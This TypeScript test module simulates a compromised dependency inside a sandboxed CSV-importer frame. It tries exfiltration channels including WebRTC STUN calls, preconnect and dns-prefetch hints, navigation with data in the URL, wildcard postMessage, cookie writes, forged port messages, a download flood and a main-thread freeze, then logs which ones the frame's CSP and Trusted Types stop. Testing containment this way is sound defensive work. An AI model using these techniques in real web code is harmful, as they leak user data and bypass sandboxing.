// A module bundled into a test build of the frame before the app's own modules, as a compromised
// dependency would be: its code runs as the frame's own script, under the frame's CSP and
// Trusted Types, with the Lit the app bundles. `__ATTACK__` (set at build time) says which
// channel it tries; it tries it once the app has connected, in a task of its own, and leaves
// what it saw in `window.exfiltration` for the test to read.
import { html, render } from 'lit';
import { unsafeHTML } from 'lit/directives/unsafe-html.js';

export interface Attack {
  readonly channel:
    | 'webrtc'
    | 'webrtc-child'
    | 'preconnect'
    | 'dns-prefetch'
    | 'navigate'
    | 'post-message'
    | 'cookie'
    | 'freeze'
    | 'forge-complete'
    | 'download-flood';
  /** Where a channel sends to: a TCP or UDP port on 127.0.0.1, a name to look up. */
  readonly port?: number;
  readonly name?: string;
  /** The data it tries to get out. */
  readonly data: string;
  /** How long after the frame's `load` it strikes (default 500 ms). */
  readonly delayMs?: number;
}

declare const __ATTACK__: Attack;

const outcome: string[] = [];
(window as unknown as { exfiltration: string[] }).exfiltration = outcome;
const note = (text: string): void => {
  outcome.push(text);
};

/** The port the host hands the app, taken from the window as the app takes it. */
let port: MessagePort | undefined;
addEventListener('message', (event) => {
  if (event.ports[0] && (event.data as { type?: string })?.type === 'csv-importer:connect')
    port = event.ports[0];
});

function peerConnection(scope: typeof globalThis): void {
  const name = ['RTCPeerConnection', 'webkitRTCPeerConnection'].find(
    (n) => typeof (scope as unknown as Record<string, unknown>)[n] === 'function',
  );
  if (!name) {
    note('no RTCPeerConnection');
    return;
  }
  const Constructor = (scope as unknown as Record<string, typeof RTCPeerConnection>)[name]!;
  const connection = new Constructor({ iceServers: [{ urls: `stun:127.0.0.1:${__ATTACK__.port}` }] });
  connection.createDataChannel(__ATTACK__.data);
  void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  note(`${name} made`);
}

/** Tries every way it knows to put a `<link rel>` hint into a document; notes each outcome. */
function hint(rel: string, href: string): void {
  const tries: [string, () => void][] = [
    [
      'createElement',
      () => {
        const link = document.createElement('link');
        link.rel = rel;
        link.href = href;
        document.head.append(link);
      },
    ],
    // Markup through Lit's template policy, rendered into the document.
    ['lit', () => render(html`${unsafeHTML(`<link rel="${rel}" href="${href}">`)}`, document.body)],
    // A child document whose own parser makes the element.
    [
      'child frame',
      () => {
        const doc = `<link rel="${rel}" href="${href}">`.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
        render(html`${unsafeHTML(`<iframe srcdoc="${doc}"></iframe>`)}`, document.body);
      },
    ],
  ];
  for (const [how, run] of tries) {
    try {
      run();
      note(`${how}: appended`);
    } catch (error) {
      note(`${how}: ${(error as Error).name}`);
    }
  }
}

/** A child frame whose document runs this frame's own script again (its hash is allowed). */
function childRunningOwnScript(): void {
  const script = document.querySelector('script')!;
  const source = script.src ? `<script src="${script.src}"></script>` : `<script>${script.text}</script>`;
  const doc = `<html data-exfiltration-child>${source}</html>`.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  // A string becomes markup only through a Trusted Types policy: Lit's, through unsafeHTML.
  const holder = document.createElement('div');
  document.body.append(holder);
  render(html`${unsafeHTML(`<iframe srcdoc="${doc}"></iframe>`)}`, holder);
  note('child frame appended');
  // A child of the same origin would hand back its constructors directly.
  try {
    peerConnection(holder.querySelector('iframe')!.contentWindow as unknown as typeof globalThis);
  } catch (error) {
    note(`child window: ${(error as Error).name}`);
  }
}

/** The forged messages go on the app's own port, which the attack took from the window. */
function onPort(messages: object[]): void {
  if (!port) {
    note('no port');
    return;
  }
  for (const message of messages) {
    // A rows channel is opened with a port of its own, as the app opens one.
    const transfer =
      (message as { type: string }).type === 'rows-channel' ? [new MessageChannel().port2] : [];
    port.postMessage(message, transfer);
  }
  note(`posted ${messages.length} on the port`);
}

const { port: target, name, data } = __ATTACK__;
const forgedMeta = { fileName: 'forged.csv', encoding: 'utf-8', delimiter: ',', mapping: {} };

const attacks: Record<Attack['channel'], () => void> = {
  webrtc: () => peerConnection(globalThis),
  'webrtc-child': childRunningOwnScript,
  preconnect: () => hint('preconnect', `http://${name}:${target}/`),
  'dns-prefetch': () => hint('dns-prefetch', `http://${name}/`),
  navigate: () => {
    note('navigating');
    location.href = `http://${name}:${target}/?data=${encodeURIComponent(data)}`;
  },
  'post-message': () => {
    for (let i = 0; i < parent.frames.length; i++) parent.frames[i]!.postMessage({ exfiltrated: data }, '*');
    top!.postMessage({ exfiltrated: data }, '*');
    note('posted');
  },
  cookie: () => {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack writes a cookie as injected code would.
    document.cookie = `exfiltrated=${encodeURIComponent(data)}; domain=${name}; path=/`;
    note(`cookie: ${document.cookie}`);
  },
  freeze: () => {
    note('freezing');
    for (;;) {
      // The frame's main thread never returns: no event, timer or message runs again.
    }
  },
  'forge-complete': () =>
    onPort([
      { type: 'rows-channel', version: 1, id: 'forged-0' },
      { type: 'complete', version: 1, id: 'forged-1', meta: { ...forgedMeta, rowCount: 3 } },
      { type: 'complete', version: 1, id: 'forged-2', meta: { ...forgedMeta, rowCount: 0 } },
    ]),
  'download-flood': () =>
    onPort(
      Array.from({ length: 5 }, (_, i) => ({
        type: 'save-file',
        version: 1,
        id: `download-${i}`,
        fileName: `exfiltrated-${i}.csv`,
        mimeType: 'text/csv',
        text: data,
      })),
    ),
};

if (document.documentElement.hasAttribute('data-exfiltration-child')) {
  // Inside the child frame: try WebRTC from here.
  try {
    peerConnection(globalThis);
  } catch (error) {
    note(`child: ${(error as Error).message}`);
  }
} else {
  // After the handshake (the app's hello is answered within a few tasks), as a task of its own.
  const start = () =>
    setTimeout(() => {
      try {
        attacks[__ATTACK__.channel]();
      } catch (error) {
        note(`${(error as Error).name}: ${(error as Error).message}`);
      }
    }, __ATTACK__.delayMs ?? 500);
  if (document.readyState === 'complete') start();
  else addEventListener('load', start);
}
